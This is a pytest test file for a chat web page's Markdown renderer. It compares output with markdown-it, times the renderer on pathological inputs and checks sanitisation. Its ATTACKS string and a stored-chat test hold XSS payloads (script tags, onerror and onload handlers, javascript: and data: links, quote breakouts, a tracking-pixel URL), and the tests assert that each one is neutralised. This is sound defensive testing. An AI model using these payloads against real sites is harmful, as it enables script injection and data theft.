"""The chat page's Markdown beside markdown-it's, and texts that try to become more than text."""

from __future__ import annotations

import json
import random

import pytest
from browser import open_page
from fake_apps import live_server
from fake_client import FakeClient
from markdown_it import MarkdownIt
from test_page import IDLE, NAMED, say

from headrace.base.server_config import ServerConfig
from headrace.serving.http.app import create_app

REFERENCE = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
NORMALIZE = r"""(node) => { // without what the page adds (copy buttons, languages, targets); white space is one blank
  for (const c of node.querySelectorAll("div.code")) c.replaceWith(c.querySelector("pre"));
  for (const c of node.querySelectorAll("div.table")) c.replaceWith(c.firstChild);
  for (const c of node.querySelectorAll("img")) {
    const link = document.createElement("a"); link.href = c.src; link.textContent = c.alt; c.replaceWith(link);
  }
  for (const c of node.querySelectorAll("s")) {
    const del = document.createElement("del"); del.append(...c.childNodes); c.replaceWith(del);
  }
  for (const c of node.querySelectorAll("*")) {
    if (c.tagName === "A") c.setAttribute("href", c.href);
    if (c.style.textAlign) c.className = `align-${c.style.textAlign}`;
    for (const name of c.getAttributeNames()) {
      const isKept = ["href", "start"].includes(name) || (name === "class" && /^align/.test(c.className));
      if (!isKept) c.removeAttribute(name);
    }
  }
  node.normalize();
  const isEdge = (n) => !n || (n.nodeType === 1 && !n.matches("a, code, em, strong, del"));
  const walk = document.createTreeWalker(node, NodeFilter.SHOW_TEXT), texts = [];
  while (walk.nextNode()) texts.push(walk.currentNode);
  for (const t of texts) {
    if (t.parentNode.closest("pre")) { t.data = t.data.replace(/\s+$/, ""); continue; }
    t.data = t.data.replace(/\s+/g, " ");
    if (isEdge(t.parentNode) && isEdge(t.previousSibling)) t.data = t.data.trimStart();
    if (isEdge(t.parentNode) && isEdge(t.nextSibling)) t.data = t.data.trimEnd();
    if (!t.data) t.remove();
  }
  return node.innerHTML;
}"""

WRITTEN = [  # as models write
    "# Title\n\nText with **bold**, *em*, ***both***, `code`, ~~gone~~.\n\n## Next ##\n---\nSetext\n===\n",
    "- a\n- b\n  - c\n    1. d\n    2. e\n- f\n\n1. one\n\n   para\n\n2. two\n   ```sh\n   ls\n   ```\n",
    "5. five\n6. six\n\n* **Term**: text\n    * deeper\n* Other",
    "| a | b | c |\n|:--|:-:|--:|\n| 1 | `x\\|y` | **3** |\n| [l](https://e.example) | |\n\nafter",
    "Text\nfollowed | by\n--|--\na | table\n> and a quote\n> - with a list\n>\n> > and more\nlazy end",
    "````md\n```py\nx = 1\n```\n````\n~~~\nplain\n\n~~~\n    indented\n\n    code\n",
    "```python\ndef f():\n\treturn 1\n",
    "[a](https://e.example/x_(y) \"t\") <https://e.example/?a=1&b=2> [ref][1] [short] ![image](https://e.example/i.png)\n\n"
    "[1]: https://one.example\n[short]: <https://short.example> 'title'",
    "snake_case_name 2 * 3 * 4 and 5~10 or 20~30, __init__ *a **b* c** \"**q**\" **注意**：中文**强调**。",
    "hard  \nbreak\\\nsoft \\* \\` &amp; &copy; &#65; `` a ` b `` `unclosed",
    "[outer [inner](mailto:i@m.example) x](mailto:o@m.example) [**b**](https://b.example) *em [l](https://l.example)*",
]
LINES = (
    "text one", "more *em* here", "**bold** and `code`", "- item", "- ", "* star", "  - sub item", "    - deep",
    "1. num", "2. two", "10. ten", "> quote", "> - q item", "```", "```py", "~~~", "# Head", "## H2", "---", "===",
    "***",
    "    indented", "  two spaces", "   three", "\tcode", "| a | b |", "|---|---|", "| 1 | 2 |", "a | b", "", "", " ",
    "[l](https://x.example)", "end\\", "hard  ", "- > q", "1. - x", "> ```", "> 1. n", "  > q", "   continued",
    "      six",
)
PIECES = (
    "*", "**", "_", "__", "`", "``", "a", "b", " ", " ", "word", "[", "]", "(mailto:a@b.example)", "~~", "\\", "!",
    "<b>", "&amp;", ".", "\n", "***", "é", "“", "1",
)


def made_up() -> list[str]:
    chance = random.Random(18)
    blocks = ["\n".join(chance.choices(LINES, k=chance.randint(2, 8))) for _ in range(150)]
    return blocks + ["x" + "".join(chance.choices(PIECES, k=chance.randint(3, 16))) for _ in range(150)]


@pytest.fixture
async def lab(tmp_path):
    """The page with its Markdown module at hand, and without its policy, which would refuse markup to compare with."""
    app = create_app(FakeClient(), ServerConfig())
    async with live_server(app) as address, open_page("about:blank", tmp_path) as page:
        await page.call("Page.setBypassCSP", enabled=True)
        await page.call("Page.navigate", url=address)
        await page.until(NAMED)
        await page.run("import('./page/markdown.js').then((module) => { window.markdown = module })")
        await page.run(f"window.normalize = {NORMALIZE}; 0")
        yield page


COMPARE = """(([text, html, step]) => {
  const [whole, grown, wanted] = [0, 0, 0].map(() => document.createElement("div"));
  new markdown.MarkdownView(whole).update(text, {isWhole: true});
  const view = new markdown.MarkdownView(grown);
  for (let end = 0; end < text.length; end += step) view.update(text.slice(0, end));
  view.update(text, {isWhole: true});
  wanted.innerHTML = html;
  return [normalize(whole), normalize(grown), normalize(wanted)];
})"""


@pytest.mark.parametrize("texts", [WRITTEN, made_up()], ids=["written", "made_up"])
async def test_markdown_is_read_as_markdown_it_reads_it(lab, texts):
    for number, text in enumerate(texts):
        case = json.dumps([text, REFERENCE.render(text), 1 + number % 5])
        whole, grown, wanted = await lab.run(f"{COMPARE}({case})")
        assert whole == wanted, text
        assert grown == wanted, f"in steps: {text}"


async def test_what_github_adds(lab):
    text = (
        "- [x] done\n- [ ] open\n\nSee https://e.example/a_(b), www.e.example/x. or (https://e.example).\n\n"
        "| a |\n|-|\n| x<br>y |"
    )
    html = await lab.run(f"normalize(markdown.renderMarkdown({json.dumps(text)}))")
    assert html == (
        '<ul><li><input>done</li><li><input>open</li></ul>'
        '<p>See <a href="https://e.example/a_(b)">https://e.example/a_(b)</a>,'
        ' <a href="https://www.e.example/x">www.e.example/x</a>. or (<a href="https://e.example/">https://e.example</a>).</p>'
        "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>x<br>y</td></tr></tbody></table>"
    )


@pytest.mark.parametrize("text", [
    "[" * 20_000, "*a" * 20_000, "**a *" * 8_000, "`" * 5_000 + "a`" * 5_000, "> " * 3_000 + "x", "- " * 3_000 + "x",
    "![" * 9_000 + "](" * 9_000, "a|" * 9_000 + "\n" + "-|" * 9_000, "<" * 20_000, "&" * 20_000, "_a_" * 8_000,
    "~~" * 9_000, "https://" * 4_000, "[a](" * 9_000, "> a\nb\n" * 4_000,
    "- a\nb\n" * 4_000, "[x]: https://e.example\n" * 4_000,
], ids=lambda text: repr(text[:8]))  # fmt: skip
async def test_no_text_takes_long(lab, text):
    await lab.run(f"window.text = {json.dumps(text)}; 0")
    took = await lab.run(
        "(() => { const start = performance.now(); markdown.renderMarkdown(text); return performance.now() - start })()"
    )
    assert took < 3000, f"{took:.0f} ms"


PARAGRAPHS = "A **bold** `word`, and [a link](https://e.example).\n\n- one\n- *two*\n\n```py\nx = 1\n```\n\n"


@pytest.mark.parametrize("text", [PARAGRAPHS * 600, "```\n" + "x = call(1, 2)\n" * 3000], ids=["blocks", "code"])
async def test_a_long_answer_grows_at_the_cost_of_its_end(lab, text):
    await lab.run(f"window.text = {json.dumps(text)}; 0")
    took = await lab.run("""(() => {
        const view = new markdown.MarkdownView(document.createElement("div")), start = performance.now();
        for (let end = 0; end < text.length; end += 50) view.update(text.slice(0, end));
        return (performance.now() - start) / (text.length / 50);
    })()""")
    assert took < 5, f"{took:.2f} ms an update"  # 0.2 ms; rendering the whole text each time takes over 20


ATTACKS = r"""<script>window.hacked = 1</script> <img src=x onerror="window.hacked = 1"> <svg onload=window.hacked=1>

<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>

[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) [c](&#106;avascript:window.hacked=1) [d](java
script:window.hacked=1) [e](data:text/html,<script>1</script>) [f](vbscript:x) [g]( javascript:x) [h](\javascript:x)
<javascript:window.hacked=1> <data:text/html;base64,xx> [i]: javascript:x [j][r] ![k](javascript:x) [l](//evil.example)
[m](/flush_cache) [n](flush_cache) [o](#x) [p](file:///etc/passwd) [q](https://good.example" onclick="window.hacked=1)
[s](https://good.example/"onmouseover="window.hacked=1)

[r]: javascript:window.hacked=1

![pixel](https://spy.example/p.png?x=secret)

| <b onclick=x> | `<i>` |
|---|---|
| <script>window.hacked=1</script> | [t](javascript:window.hacked=1) |

```"><img src=x onerror=window.hacked=1>
</code></pre><script>window.hacked=1</script>
```
"""


async def test_answers_cannot_become_more_than_text(tmp_path):
    client = FakeClient(script=b"<think>" + ATTACKS.encode() + b"</think>" + ATTACKS.encode())
    app = create_app(client, ServerConfig(reasoning_parser="qwen3"))
    async with live_server(app) as address, open_page(address + "/", tmp_path) as page:
        await page.until(NAMED)
        await say(page, ATTACKS)
        await page.until(IDLE)
        for _ in range(2):  # as it came, and as it was kept
            await page.run("document.querySelectorAll('details').forEach((d) => { d.open = true })")
            nodes, links = "[...document.querySelectorAll('#log *')]", "[...document.querySelectorAll('#log a')]"
            await page.run(f"{links}.forEach((a) => {{ if (!/^https:/.test(a.href)) a.click() }})")
            names = await page.run(f"{nodes}.map((n) => n.localName)")
            assert not {"script", "img", "iframe", "b", "i", "object", "style", "form"} & set(names), names
            found = await page.run(f"{links}.map((a) => [a.href, ...a.getAttributeNames()])")
            assert {link[0] for link in found} <= {
                "https://good.example/", "https://good.example/%22onmouseover=%22window.hacked=1",
                "https://spy.example/p.png?x=secret"
            }, found
            assert all(set(link[1:]) == {"href", "target", "rel"} for link in found)
            assert not await page.run(f"{nodes}.some((n) => n.getAttributeNames().some((a) => /^on/.test(a)))")
            assert await page.run("window.hacked") is None and not page.complaints
            assert await page.text(".bubble") == ATTACKS.strip()
            await page.reload()
            await page.until(NAMED)
        assert await page.run("try { document.body.innerHTML = '<p>x'; false } catch (error) { true }"), "trusted types"


async def test_kept_chats_are_not_trusted(tmp_path):
    app = create_app(FakeClient(script=b"Yes."), ServerConfig())
    async with live_server(app) as address, open_page(address + "/", tmp_path) as page:
        await page.until(NAMED)
        for number, kept in enumerate([
            "{", "null", '"x"', "{}", '{"id": 3, "turns": []}',
            '{"id": "a3", "turns": [null, {"role": "x", "content": 3}]}',
            '{"id": "<b>x", "title": "<img src=x onerror=hacked=1>", "turns": [{"role": "user", "content": "b"}]}',
        ]):
            await page.run(f"localStorage.setItem('headrace.chat.a{number}', {json.dumps(kept)})")
        await page.run("localStorage.setItem('headrace.settings', '[1')")
        await page.reload()
        await page.until(NAMED)
        await say(page, "hello")
        await page.until(f"{IDLE} && document.querySelector('.turn > .words').textContent === 'Yes.'")
        assert await page.run("window.hacked") is None and not await page.count("#list img") and not page.complaints
